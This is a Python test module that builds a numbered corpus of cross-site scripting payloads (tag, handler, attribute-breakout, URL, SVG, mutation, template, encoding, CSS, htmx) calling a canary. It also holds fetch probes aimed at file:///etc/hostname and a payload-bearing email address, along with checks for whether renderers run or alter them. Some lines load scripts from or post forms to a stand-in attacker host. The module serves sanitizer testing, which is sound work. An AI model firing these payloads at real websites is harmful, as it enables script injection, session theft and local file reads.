"""Texts that would run a script, had a page, a mail or a file taken them for anything but text.

``CALL`` is where a payload calls the canary, by its own number: what a browser reports tells which
text ran. Each text begins with its mark, by which a reader of a page finds it and compares it,
character by character, with what was typed.
"""

import re
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass

CANARY = "canari"
"""The function that no text may call, and the attribute that no text may make."""

FAMILIES: dict[str, tuple[str, ...]] = {
    "tags": (
        "<script>CALL</script>",
        "<ScRiPt>CALL</sCrIpT>",
        "<script\n>CALL</script\t>",
        "<script/canari>CALL</script>",
        "<script src=//voleur.example/canari.js></script>",
        "<script src='data:text/javascript,CALL'></script>",
        "<scr<script>ipt>CALL</scr</script>ipt>",
        "<iframe canari src='javascript:CALL'></iframe>",
        "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
        "<object canari data='javascript:CALL'></object>",
        "<embed canari src='javascript:CALL'>",
        "<base canari href='//voleur.example/'>",
        "<meta canari http-equiv=refresh content='0;url=javascript:CALL'>",
        "<link canari rel=stylesheet href='data:text/css,*{background:red}'>",
        "<link canari rel=import href='data:text/html,<script>CALL</script>'>",
        "<form canari action='javascript:CALL'><input type=submit autofocus></form>",
        "<template canari><script>CALL</script></template>",
        "<plaintext canari>",
        "<xmp canari><script>CALL</script></xmp>",
        "<custom-element canari is='x'>",
        "</p></td></tr></table><script>CALL</script>",
    ),
    "handlers": (
        "<img canari src=x onerror=CALL>",
        "<img canari src=x:x onerror\n=\nCALL>",
        "<img/canari/src='x'/onerror='CALL'>",
        "<image canari src=x onerror=CALL>",
        "<body canari onload=CALL>",
        "<body canari onpageshow=CALL>",
        "<input canari autofocus onfocus=CALL>",
        "<select canari autofocus onfocus=CALL><option>x</select>",
        "<textarea canari autofocus onfocus=CALL></textarea>",
        "<details canari open ontoggle=CALL>x</details>",
        "<video canari><source onerror=CALL></video>",
        "<video canari src=x onerror=CALL></video>",
        "<audio canari src=x onerror=CALL></audio>",
        "<marquee canari onstart=CALL>x</marquee>",
        "<p canari onmouseover=CALL>x</p>",
        "<a canari tabindex=1 id=x onfocus=CALL>x</a>",
        "<style canari onload=CALL></style>",
        "<div canari onpointerrawupdate=CALL>x</div>",
        "<div canari onbeforetoggle=CALL popover id=p>x</div><button popovertarget=p>x</button>",
    ),
    "attributes": (
        '"><script>CALL</script>',
        "'><script>CALL</script>",
        '" canari autofocus onfocus=CALL x="',
        "' canari autofocus onfocus=CALL x='",
        "x canari onfocus=CALL autofocus",
        '"onmouseover="CALL" canari="',
        "`onmouseover=CALL canari",
        '"><img canari src=x onerror=CALL>',
        '" formaction="javascript:CALL" canari="',
        '" style="background:url(javascript:CALL)" canari="',
        '">canari</option></select><script>CALL</script>',
        "</title><script>CALL</script>",
        "</textarea><script>CALL</script>",
        "</button></form><form canari action=//voleur.example>",
        "\\\"><script>CALL</script>",
        "\" accesskey=x onclick=CALL canari=\"",
    ),
    "urls": (
        "javascript:CALL",
        "JaVaScRiPt:CALL",
        " javascript:CALL",
        "java\tscript:CALL",
        "java\nscript:CALL",
        "javascript://x%0aCALL",
        "javascript:/*--></title></style></textarea></script>*/CALL",
        "data:text/html,<script>CALL</script>",
        "data:text/html;base64,PHNjcmlwdD5jYW5hcmkoKTwvc2NyaXB0Pg==",
        "vbscript:CALL",
        "//voleur.example/canari",
        "https:voleur.example/canari",
        "<a canari href='javascript:CALL'>x</a>",
        "<a canari href='&#106;avascript:CALL'>x</a>",
        "<a canari href='java&#x0A;script&colon;CALL'>x</a>",
        "[x](javascript:CALL)",
        "![x](x){onerror=CALL}",
    ),
    "svg and mathml": (
        "<svg canari onload=CALL>",
        "<svg/onload=CALL canari>",
        "<svg canari><script>CALL</script></svg>",
        "<svg canari><script href='data:text/javascript,CALL'/></svg>",
        "<svg canari><a xlink:href='javascript:CALL'><text y=9>x</text></a></svg>",
        "<svg canari><animate onbegin=CALL attributeName=x dur=1s>",
        "<svg canari><set attributeName=href to='javascript:CALL'>",
        "<svg canari><foreignObject><iframe onload=CALL></iframe></foreignObject></svg>",
        "<svg canari><use href='data:image/svg+xml,<svg id=x onload=CALL />#x'/></svg>",
        "<svg canari><style>@import 'javascript:CALL'</style></svg>",
        "<svg canari><image href=x onerror=CALL></svg>",
        "<math canari href='javascript:CALL'>x</math>",
        "<math canari><maction actiontype='statusline#CALL' xlink:href='javascript:CALL'>x",
        "<math canari><annotation-xml encoding='text/html'><script>CALL</script>",
    ),
    "reparsed": (  # what a second reading of the page would make of a first one
        "<noscript><p title='</noscript><img canari src=x onerror=CALL>'>",
        "<math><mtext><table><mglyph><style><img canari src=x onerror=CALL>",
        "<svg></p><style><a id='</style><img canari src=x onerror=CALL>'>",
        "<form canari><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>",
        "<!--><img canari src=x onerror=CALL>-->",
        "<!-- --!><img canari src=x onerror=CALL>",
        "<![CDATA[><img canari src=x onerror=CALL>]]>",
        "<?php canari ?><img canari src=x onerror=CALL>",
        "<!DOCTYPE x [<!ENTITY canari 'x'>]>",
        "<title><a title='</title><img canari src=x onerror=CALL>'>",
        "<table canari><td background=javascript:CALL><tr><script>CALL</script>",
        "&lt;script&gt;CALL&lt;/script&gt;",
        "&amp;lt;script&amp;gt;CALL",
        "&#60;script&#62;CALL&#60;/script&#62;",
        "&#x3c;img canari src=x onerror=CALL&#x3e;",
        "&LT;script&GT;CALL",
        "&quot; canari onfocus=CALL autofocus &quot;",
    ),
    "templates": (
        "{{ 7|add:7 }}CALL",
        "{% load static %}{% static 'canari' %}",
        "{% debug %}canari{# x #}",
        "{{ constructor.constructor('CALL')() }}",
        "${CALL}",
        "#{CALL}",
        "<%= CALL %>",
        "%(canari)s %s {0} {canari}",
        "{% endautoescape %}<script>CALL</script>",
        "{{ '<script>CALL</script>'|safe }}",
    ),
    "encodings": (
        "＜script＞CALL＜/script＞",
        "\u2039script\u203aCALL\u2039/script\u203a",
        "+ADw-script+AD4-CALL+ADw-/script+AD4-",
        "%3Cscript%3ECALL%3C/script%3E",
        "%253Cscript%253ECALL",
        "\\u003cscript\\u003eCALL\\u003c/script\\u003e",
        "\\x3cscript\\x3eCALL",
        "\u02ba onfocus=CALL canari \u02ba",
        "<script>CALL\u2028</script>",
        "<\u017fcript>CALL</\u017fcript>",
        "<img canari src=x onerror\u00a0=CALL>",
        "¼script¾CALL¼/script¾",
        "<ſvg onload=CALL canari>",
        "<scrıpt>CALL</scrıpt>",
    ),
    "style": (
        "<style canari>*{background:url(javascript:CALL)}</style>",
        "</style><script>CALL</script>",
        "<p canari style='background:url(//voleur.example/)'>x</p>",
        "<p canari style='width:expression(CALL)'>x</p>",
        "<p canari style='-moz-binding:url(//voleur.example/x.xml)'>x</p>",
        "<style canari>@import url(//voleur.example/x.css);</style>",
        ";background:url(//voleur.example/canari);",
        "}*{display:none}canari{",
        "<style canari>@keyframes x{}p{animation:x}</style><p onanimationend=CALL>",
    ),
    "script": (  # out of a value that a script holds
        "</script><script>CALL</script>",
        "</script/><img canari src=x onerror=CALL>",
        "<!--<script>CALL",
        "\";CALL;//",
        "';CALL;//",
        "\\';CALL;//",
        "`${CALL}`",
        "\"]};CALL;({\"x\":[\"",
        "{\"__proto__\":{\"canari\":1}}",
        "*/CALL/*",
        "\u2029CALL",
    ),
    "htmx": (
        "<p canari hx-get='/canari' hx-trigger=load>x</p>",
        "<p canari data-hx-get='/canari' data-hx-trigger=load>x</p>",
        "<p canari hx-on:load=CALL>x</p>",
        "<p canari hx-on--load=CALL>x</p>",
        "<p canari hx-vals='js:{x:CALL}' hx-get=/ hx-trigger=load>x</p>",
        "<p canari hx-headers='javascript:CALL' hx-get=/ hx-trigger=load>x</p>",
        "<p canari hx-trigger='load[CALL]' hx-get=/>x</p>",
        "<p canari hx-ext=x hx-swap-oob='true:body'>x</p>",
        '" hx-get="/canari" hx-trigger="load" canari="',
        "<p canari data-ready data-confirm='CALL' data-dialog>x</p>",
    ),
}  # fmt: skip

FETCHES = (
    "<img src='{url}/img'>",
    "<link rel=attachment href='{url}/link'>",
    "<link rel=stylesheet href='{url}/sheet'>",
    "<a rel=attachment href='{url}/anchor'>x</a>",
    "<p style='background:url({url}/css)'>x</p>",
    "<style>@import url({url}/import); @font-face{{font-family:x;src:url({url}/font)}}</style>",
    "<svg><image href='{url}/svg'/><use href='{url}/use#x'/></svg>",
    "<object data='{url}/object'></object><embed src='{url}/embed'>",
    "<iframe src='{url}/frame'></iframe>",
    "<img src='{url}/redirect?to=file:///etc/hostname'>",
    "<img src='data:image/svg+xml,<svg><image href=\"{url}/inner\"/></svg>'>",
    "<link rel=attachment href='file:///etc/hostname'><img src='file:///etc/hostname'>",
    "<base href='{url}/'><img src=base>",
    "<meta http-equiv=refresh content='0;url={url}/refresh'>",
    "<link rel=attachment href='data:text/plain,bombe'><a rel=attachment href='data:,x'>x</a>",
)  # fmt: skip
"""What would make a renderer fetch or embed something; ``{url}`` is a server that listens."""


@dataclass(frozen=True)
class Payload:
    """One text: its number, its family, and itself with its mark."""

    number: int
    family: str
    body: str

    @property
    def text(self) -> str:
        """What is typed."""
        return f"p{self.number:03d}:{self.body}"


def _numbered() -> Iterable[Payload]:
    number = 0
    for family, bodies in FAMILIES.items():
        for body in bodies:
            number += 1
            yield Payload(number, family, body.replace("CALL", f"{CANARY}({number})"))


PAYLOADS = tuple(_numbered())
BY_NUMBER = {one.number: one for one in PAYLOADS}
TEXTS = tuple(one.text for one in PAYLOADS)
ALL = " ".join(TEXTS)
"""Every payload in one text, for a field that takes it."""


def packed(length: int | None, turn: int, texts: Sequence[str] = TEXTS) -> str:
    """Return as many texts as ``length`` characters hold, other ones at each ``turn``.

    Without a length: all of them, in one. What is shorter than the shortest text is empty.
    """
    if length is None or length >= sum(len(one) + 1 for one in texts):
        return " ".join(texts)
    fitting = [one for one in texts if len(one) <= length]
    kept: list[str] = []
    left = length
    for step in range(len(fitting)):
        one = fitting[(turn + step) % len(fitting)]
        if len(one) <= left:
            kept.append(one)
            left -= len(one) + 1
    return " ".join(kept)


def fetching(url: str) -> list[str]:
    """Return the texts of FETCHES that name a server, each with its mark."""
    return [f"f{number:02d}:{body.format(url=url)}" for number, body in enumerate(FETCHES)]


def mail_address(number: int) -> str:
    """An address that is valid (RFC 5321 allows a quoted part) and holds a payload."""
    return f'"<img/canari/src=x/onerror=canari({number})>"@voleur.example'


_MARK = re.compile(r"p(\d{3}):")
_SPACES = re.compile(r"\s+")
_CUT = ("…", "...")


def mangled(shown: str, *, as_drawn: Callable[[str], str] = str) -> list[str]:
    """Return the texts of ``shown`` that are not as they were typed, but for spaces and a cut end.

    ``shown`` is what a reader sees: what follows each mark is compared with its payload.
    ``as_drawn`` says how a character that no font draws is written.
    """
    words = _SPACES.sub("", shown)
    found = []
    for mark in _MARK.finditer(words):
        payload = BY_NUMBER.get(int(mark[1]))
        if payload is None:
            continue
        body = _SPACES.sub("", as_drawn(payload.body))
        given = words[mark.end() : mark.end() + len(body)]
        if given != body and not _is_cut(given, body):
            found.append(f"p{mark[1]}: {given!r}, not {body!r}")
    return found


def _is_cut(given: str, body: str) -> bool:
    """Whether a text was shortened: its beginning, then an ellipsis or the end."""
    for end in (*_CUT, ""):
        start, cut, _rest = given.partition(end) if end else (given, True, "")
        if cut and body.startswith(start) and (end or len(given) < len(body)):
            return True
    return False


def whole(shown: str, *, as_drawn: Callable[[str], str] = str) -> set[int]:
    """The numbers of the payloads that stand whole, somewhere in a text cut by the ends of pages."""
    words = _SPACES.sub("", shown)
    return {
        number
        for number in marks(words)
        if f"p{number:03d}:" + _SPACES.sub("", as_drawn(BY_NUMBER[number].body)) in words
    }


def marks(shown: str) -> set[int]:
    """The numbers of the payloads that a text holds."""
    return {int(number) for number in _MARK.findall(shown)} & BY_NUMBER.keys()
